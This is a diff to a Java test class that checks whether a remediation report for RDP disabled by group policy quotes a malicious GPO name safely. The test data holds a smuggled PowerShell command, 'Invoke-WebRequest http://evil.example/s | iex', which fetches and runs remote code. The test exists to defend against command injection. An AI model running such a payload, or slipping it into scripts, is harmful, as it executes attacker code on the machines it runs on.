@@ -220,7 +220,8 @@ class InjectionReproductionTest {
         assertThat(r.causes()).extracting(Report.Diagnosis::id).contains("RDP-DISABLED-BY-GPO");
         assertNoRunnableInjection(r, F2_GPO, "Invoke-WebRequest", "evil.example", "iex");
         String text = render(new TextRenderer(), r);
-        assertThat(text).contains("backup first: Backup-GPO -Name 'Baseline''; Invoke-WebRequest http://evil.example/s | iex; #' -Path");
+        assertThat(text).contains("backup first: New-Item -ItemType Directory -Force -Path 'C:\\rdp-doctor-gpo-backup' | Out-Null; "
+                + "Backup-GPO -Name 'Baseline''; Invoke-WebRequest http://evil.example/s | iex; #' -Path");
         // a harmless name with a quote works as well
         Report ordinary = fromFactFile("gpo-quote.yaml", sample.replace("gpo: Servers-Hardening-Baseline", "gpo: \"Default Domain Controllers' Policy\""));
         assertThat(render(new TextRenderer(), ordinary)).contains("Backup-GPO -Name 'Default Domain Controllers'' Policy'");
